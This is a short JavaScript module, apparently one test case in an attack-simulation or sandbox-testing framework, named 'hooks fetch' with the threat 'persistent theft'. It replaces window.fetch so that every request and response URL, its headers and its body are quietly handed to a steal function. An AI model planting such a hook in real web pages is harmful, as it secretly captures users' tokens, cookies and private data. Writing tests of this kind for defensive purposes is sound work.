import { attack } from "../attack.js";

export default attack({
  name: "hooks fetch",
  threat: "persistent theft",
  target: "any",
  hook(it) {
    const { fetch } = window;
    window.fetch = async (input, init) => {
      const request = input instanceof Request ? input : undefined;
      it.steal(request?.url ?? String(input), [...new Headers(init?.headers ?? request?.headers)]);
      if (typeof init?.body === "string" || init?.body instanceof URLSearchParams)
        it.steal(String(init.body));
      const copy = request?.clone();
      const response = await fetch(input, init);
      const answer = response.clone();
      // Do not wait for a stream that never ends.
      void copy?.text().then((text) => it.steal(text));
      it.steal(response.url, [...response.headers]);
      if (!response.headers.get("content-type")?.startsWith("text/event-stream")) {
        void answer.text().then((text) => it.steal(text));
      }
      return response;
    };
  },
});
